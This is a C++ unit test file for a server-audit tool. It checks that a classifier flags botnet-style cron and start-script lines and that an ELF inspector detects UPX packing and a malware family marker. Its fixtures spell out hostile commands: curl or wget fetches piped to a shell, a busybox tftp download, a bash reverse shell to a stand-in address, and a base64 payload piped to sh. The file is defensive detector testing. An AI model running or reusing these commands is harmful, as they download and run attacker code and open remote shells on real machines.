// Lines of cron and start scripts: a bot's, and those of every healthy server.
#include "audit/suspicious_text.h"

#include <gtest/gtest.h>

#include "audit/elf_signs.h"

namespace sekisho {
namespace {

TEST(SuspiciousText, LinesOfBots) {
  for (const char* line : {"*/5 * * * * curl -s http://198.51.100.9/x | bash", "@reboot /tmp/.x/run", "cd /tmp; wget http://198.51.100.9/b; chmod 777 b; ./b",
                           "* * * * * root /var/tmp/update", "busybox tftp -g -r mips 198.51.100.9", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
                           "echo aGk= | base64 -d | sh"})
    EXPECT_EQ(suspicion_of(line).state, AuditState::high) << line;
}

TEST(SuspiciousText, LinesOfHealthyServers) {
  for (const char* line : {"17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly", "# curl http://198.51.100.9/x | sh", "",
                           "0 3 * * * find /tmp -mtime +7 -delete", "5 4 * * * /usr/bin/certbot -q renew", "test -x /usr/sbin/anacron || run-parts /etc/cron.daily",
                           "/usr/bin/curl -fsS https://hc.example.org/ping >/dev/null"})
    EXPECT_EQ(suspicion_of(line).state, AuditState::ok) << line;
}

TEST(ElfSigns, AnyBytesGiveAnAnswer) {
  EXPECT_FALSE(elf_signs("").is_elf);
  EXPECT_FALSE(elf_signs("\177ELF").is_elf);
  EXPECT_TRUE(elf_signs("\177ELF" + std::string(100, '\xff')).is_elf);
  const auto signs = elf_signs("\177ELF" + std::string(100, '\0') + "UPX!" + "/bin/busybox ECCHI");
  EXPECT_TRUE(signs.packed);
  EXPECT_EQ(signs.packer, "UPX");
  EXPECT_EQ(signs.families.size(), 1U);
}

}  // namespace
}  // namespace sekisho
